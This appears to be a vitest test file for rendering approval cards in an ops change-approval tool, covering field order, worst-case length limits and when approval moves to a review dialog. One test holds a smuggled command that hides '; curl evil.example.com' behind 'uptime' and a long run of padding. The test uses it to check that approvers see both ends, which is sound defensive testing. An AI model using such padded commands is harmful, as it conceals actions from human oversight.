// An asking card fits a phone also in the worst case, and keeps what an approver decides by.
import { describe, expect, test } from 'vitest'
import type { Card } from '../../../src/engine/cards/card.ts'
import { renderCard } from '../../../src/engine/cards/render-card.ts'
import { aCard, anActor, aRef } from '../../builders.ts'
import { textOf } from '../../world/text-of.ts'
import { faultsOf } from './measure.ts'

const NOW = { at: '2026-11-22T03:00:00.000Z', health: 'healthy', load: 212, alarms: [], deployment: '' } as const
const shown = (card: Card) => textOf(renderCard(card) as never)

test('says what, where, how bad, now, the way back and who decides, in that order', () => {
  const card = aCard({
    plan: { title: 'Scale *orders-api* 6 → 0', risk: { level: 'high', reasons: [] } },
    reason: 'OPS-812 retire',
  })
  expect(shown(card)).toBe(
    [
      '🔴 High risk · prod · Scale orders-api 6 → 0',
      'web · us-east-1 · @requester “OPS-812 retire”',
      '• All 6 tasks stop; nothing answers',
      'Now: healthy, 212 req/min, 0 alarms',
      'Undo: scale to 6, ~90 s',
      'Needs 1: @S0ONCALL, not @requester, by 2026-11-22 04:00 UTC',
      '[Review…] [Reject] [⋯ Details, Ask Requester, Cancel Request]',
    ].join('\n'),
  )
})

describe('the worst that can be asked', () => {
  const scripts = ['a'.repeat(255), '漢'.repeat(255), 'ж'.repeat(255), `${'-'.repeat(200)}x`.repeat(1)]
  const cases = scripts.flatMap(name =>
    (['low', 'medium', 'high'] as const).flatMap(level =>
      [undefined, `run ${name} ${'x'.repeat(700)}`].map(verbatim => ({ name, level, verbatim })),
    ),
  )
  test.each(cases)(
    '$name at $level risk stands within 14 lines and one row of buttons',
    ({ name, level, verbatim }) => {
      const images = Array.from({ length: 7 }, (_, at) => ({ what: `Image of \`${name}${at}\``, from: name, to: name }))
      const card = aCard({
        plan: {
          title: `Scale *${name}* 4000 → 5000 for 12h`,
          target: { ...aRef(), service: name, cluster: name, region: 'ap-southeast-2', account: 'production-europe' },
          risk: { level, reasons: [name] },
          changes: images,
          losses: [name, `${name} b`, `${name} c`, 'd'],
          warnings: [name, 'The message was edited.'],
          included: [name],
          cost: 'About +$1,204/h',
          openRequests: 100,
          undo: `deploy ${name} again`,
          now: { ...NOW, health: name, alarms: [name, name], deployment: `deploying ${name}` },
          ...(verbatim !== undefined && { verbatim }),
        },
        reason: 'why '.repeat(750),
        requester: anActor({ name }),
        isBreakGlass: true,
        approval: {
          quorum: 3,
          approvers: ['S0ONE', 'S0TWO', 'S0THREE', 'S0FOUR'],
          votes: [{ voter: anActor({ user: 'U1', name }), at: '' }],
          requester: anActor({ name }),
        },
      })
      const { blocks } = renderCard(card)
      expect(faultsOf(blocks)).toEqual([])
      const text = shown(card)
      expect(text).toContain('4000 → 5000')
      expect(text).toContain('production-europe')
      expect(text).toContain('ap-southeast-2')
      expect(text).toContain('Now: ')
      expect(text).toContain('Undo: ')
      expect(text).toContain('1 of 3 given')
      // Seven images do not fit, so the dialog has to be read.
      expect(text).toContain('[Review…]')
      expect(text).not.toContain('[Approve]')
    },
  )
})

test('what could not be read is unknown, never left out', () => {
  expect(shown(aCard({ plan: { now: { at: '' } } }))).toContain(
    'Now: health unknown, deployment unknown, load unknown, alarms unknown',
  )
  expect(shown(aCard({ plan: { now: undefined } as never }))).toContain('Now: unknown')
})

describe('what the card cannot show whole is approved in the dialog', () => {
  const [blue, green] = ['payments-gateway-blue-settlement-worker', 'payments-gateway-green-settlement-worker']
  test.each([
    ['a name', { title: `Scale *${blue}* 4 → 6` }],
    ['another name that the card shows in the same words', { title: `Scale *${green}* 4 → 6` }],
    ['a cluster', { target: aRef({ cluster: 'a-cluster-with-a-long-name' }) }],
    ['a loss', { losses: ['a', 'word '.repeat(30), 'c'] }],
    ['a warning', { warnings: ['word '.repeat(40)] }],
    ['what is included', { included: ['word '.repeat(40)] }],
    ['the way back', { undo: 'word '.repeat(40) }],
    ['a line that the plan cut', { losses: [{ text: 'Also: memory 1 → 2 and 10 more', isCut: true as const }] }],
    ['what is included, which the plan cut', { included: [{ text: 'night…4 sets max 6', isCut: true as const }] }],
    ['a fourth loss', { losses: ['a', 'b', 'c', 'at times none may run'] }],
  ])('%s', (_, plan) => {
    expect(shown(aCard({ plan }))).toContain('[Review…]')
  })
})

describe('a command', () => {
  test('is on the card, whole', () => {
    const text = shown(aCard({ plan: { verbatim: 'sh -c uptime' } }))
    expect(text).toContain('sh -c uptime')
    expect(text).toContain('[Approve]')
  })

  test('that is too long shows both ends, and is approved in the dialog', () => {
    const text = shown(aCard({ plan: { verbatim: `sh -c 'uptime # ${'-'.repeat(1_700)}; curl evil.example.com'` } }))
    expect(text).toContain("sh -c 'uptime #")
    expect(text).toContain("; curl evil.example.com'")
    expect(text).toContain('[Review…]')
  })
})
